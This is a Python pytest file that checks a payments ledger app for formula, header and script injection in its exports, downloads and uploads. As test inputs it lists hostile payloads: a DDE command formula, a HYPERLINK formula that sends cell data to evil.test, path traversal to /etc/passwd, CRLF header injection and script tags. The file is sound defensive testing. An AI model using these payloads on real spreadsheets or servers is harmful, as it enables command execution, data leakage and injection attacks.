"""Row 45: file names, headers and cells that somebody else has a say in."""

import csv
import dataclasses
import datetime as dt
import io
import json
import re
import secrets
from email.message import Message

import openpyxl
import pytest
from flask.testing import FlaskClient
from sqlalchemy import Engine

import ledger
from payments.access.caller import Caller, Role
from payments.database import transaction
from payments.exports.write_export import write_export
from payments.reports.mappings.packages import Target
from payments.reports.mappings.set_mappings import replace_mappings
from payments.settings import Environment, Settings
from tests.databases import ROOT
from tests.web.conftest import Headers, MakeApp, TokenOf

NOON = dt.datetime(2026, 10, 15, 12, tzinfo=dt.UTC)
REPORTS = "/api/ledger/reports"
SIGNS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.test?"&A1)',
    "\t=1+1",
    "\uff1d1+1",
    "a\r\n=1+1",
    "a;=1+1",
    "{=1+1}<script>alert(1)</script>",
)
SAFE_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]{0,120}")
CRLF = ("%0d%0a", "%0a", "%0d", "%E5%98%8A%E5%98%8D", "%5cr%5cn", "%00")


@pytest.fixture
def finance(token_of: TokenOf) -> Headers:
    return token_of("pty_finance", Role.FINANCE)


@pytest.fixture
def booked(engine: Engine) -> None:
    """Entries whose descriptions are formulas, of accounts that a package knows."""
    with engine.begin() as connection:
        specs = [
            ledger.AccountSpec(path, "EUR", mode="deferred") for path in ("assets:a", "equity:b")
        ]
        first, second = ledger.open_accounts(connection, specs).values()
        for formula in FORMULAS:
            lines = [ledger.Posting(first, 500), ledger.Posting(second, -500)]
            entry = ledger.Entry(f"test_{secrets.token_hex(16)}", "test", NOON, lines, formula)
            ledger.post(connection, entry)
    with transaction(engine) as session:
        paths = session.connection().exec_driver_sql("SELECT DISTINCT control FROM ledger.accounts")
        named = {path: Target("100", "No Tax") for path in paths.scalars()}
        caller = Caller(principal="key:finance", role=Role.FINANCE)
        replace_mappings(session, "xero", named, caller=caller, now=NOON)


def _clock() -> dt.datetime:
    return dt.datetime.now(dt.UTC)  # noqa: TID251 - the application's clock is real here


def _file_name(headers: Message) -> str:
    name = headers.get_filename()
    assert name is not None
    return name


def _disposition(value: str) -> Message:
    message = Message()
    message["Content-Disposition"] = value
    return message


@pytest.mark.usefixtures("booked")
def test_row_45_nothing_in_a_cell_is_run_by_a_spreadsheet(
    client: FlaskClient, finance: Headers
) -> None:
    period = "from=2026-10-01&to=2026-10-31&asset=EUR"
    for format_name in ("csv", "xero"):
        answer = client.get(f"{REPORTS}/journal?format={format_name}&{period}", headers=finance)
        assert answer.status_code == 200, answer.text
        cells = [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]
        amounts = re.compile(r"-?\d+(\.\d+)?")
        started = [
            part
            for cell in cells
            for part in re.split(r"[;\t\r\n]", cell)
            if part.strip(" \"'")[:1] in tuple(SIGNS) and not amounts.fullmatch(part)
            if not part.startswith("'")
        ]
        assert started == [], format_name
    assert any("cmd|" in cell for cell in _csv(client, finance, period))
    answer = client.get(f"{REPORTS}/journal?format=xlsx&{period}", headers=finance)
    sheet = openpyxl.load_workbook(io.BytesIO(answer.data)).worksheets[0]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds


def _csv(client: FlaskClient, finance: Headers, period: str) -> list[str]:
    answer = client.get(f"{REPORTS}/journal?format=csv&{period}", headers=finance)
    return [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]


@pytest.mark.usefixtures("booked")
@pytest.mark.parametrize("code", ["=1+1", "+1", "-1", "@x"])
def test_a_code_of_an_account_is_no_formula(
    client: FlaskClient, finance: Headers, code: str
) -> None:
    body = {"accounts": {"assets:a": {"code": code}}}
    answer = client.put("/api/ledger/mappings/xero", json=body, headers=finance)
    assert answer.status_code == 400


@pytest.mark.usefixtures("booked")
def test_names_of_files_are_made_here_and_of_plain_letters(
    client: FlaskClient, finance: Headers, engine: Engine
) -> None:
    hostile = '../../x";\r\nX-Evil: 1'
    query = {"format": "csv", "filename": hostile, "name": hostile}
    report = client.get(f"{REPORTS}/trial-balance?format=csv&asset=EUR", headers=finance)
    assert report.data
    asked = {"reference": "../../x\";'=1+1", "report": "journal", "format": "csv"}
    export = client.post("/api/ledger/exports", json=asked, headers=finance).get_json()
    write_export(engine, export["id"], clock=_clock, until=_clock() + dt.timedelta(minutes=1))
    file = client.get(f"/api/ledger/exports/{export['id']}/download", headers=finance)
    for answer in (report, file):
        assert answer.status_code == 200, answer.text  # read to its end, which closes it
        said = answer.headers["Content-Disposition"]
        assert said.startswith("attachment; ")
        assert SAFE_NAME.fullmatch(_file_name(_disposition(said)))
    refused = client.get(f"{REPORTS}/trial-balance", query_string=query, headers=finance)
    assert refused.status_code == 400
    assert "X-Evil" not in refused.headers


def test_every_name_in_a_header_comes_from_what_we_have_made() -> None:
    """Where a Content-Disposition is written, no name given by a caller is put in."""
    found = [
        (path.relative_to(ROOT).as_posix(), line.strip())
        for path in sorted((ROOT / "web").rglob("*.py"))
        for line in path.read_text(encoding="utf-8").splitlines()
        if re.search(r"(attachment|inline); filename", line)
    ]
    assert {path for path, _ in found} == {
        "web/report_answers.py",
        "web/routes/exports.py",
        "web/routes/invoices.py",
        "web/routes/periods.py",
    }
    # A report's name, a month or an id of ours, or the number of a document; none was typed.
    assert all(re.search(r"\{(name|found\.name|file_name)\}", line) for _, line in found)


def test_the_name_of_an_uploaded_statement_is_a_label_and_no_path(
    client: FlaskClient, finance: Headers
) -> None:
    for name in ("../../../etc/passwd", "a\r\nX-Evil: 1", 'x";.xml', "a\x00b", "\u202egpj.exe"):
        answer = client.post(
            "/api/reconciliation/statements",
            query_string={"account": "main", "filename": name},
            data=b"no statement",
            headers=finance,
        )
        assert answer.status_code == 400, name
        assert "X-Evil" not in answer.headers
        assert answer.mimetype == "application/problem+json"


def test_no_line_end_in_an_address_becomes_a_header(make_app: MakeApp, settings: Settings) -> None:
    production = dataclasses.replace(settings, environment=Environment.PRODUCTION)
    for app in (make_app(production), make_app(settings)):  # the first sends all away to HTTPS
        client = app.test_client()
        for line_end in CRLF:
            evil = f"{line_end}Set-Cookie:%20evil=1{line_end}{line_end}<script>"
            for path in (f"/api/{evil}", f"/console/finance?x={evil}", f"/api//keys/{evil}"):
                answer = client.get(path, base_url="http://pay.test")
                assert answer.status_code in (301, 308, 400, 401, 404)
                assert "Set-Cookie" not in answer.headers
                assert "<script>" not in answer.text
                assert not re.search(r"[\r\n\x00]", answer.headers.get("Location", ""))


@pytest.mark.parametrize(
    "given", ["a b c d e f g h", "x" * 200, "<script>1</script>", "4242424242424242", "a=b;c=d,e"]
)
def test_only_a_plain_id_of_a_request_is_given_back(client: FlaskClient, given: str) -> None:
    answer = client.get("/healthz", headers={"X-Request-Id": given})
    assert re.fullmatch(r"req_[0-9A-Z]{26}", answer.headers["X-Request-Id"])


def test_what_was_sent_is_not_shown_as_markup(client: FlaskClient, finance: Headers) -> None:
    script = "<script>alert(1)</script>"
    page = client.get("/console/finance", query_string={"asset": script}, headers=finance)
    assert script not in page.text
    told = client.post("/api/parties", json={script: 1}, headers=finance)
    assert told.mimetype == "application/problem+json"
    assert json.loads(told.text)["status"] in (400, 403)
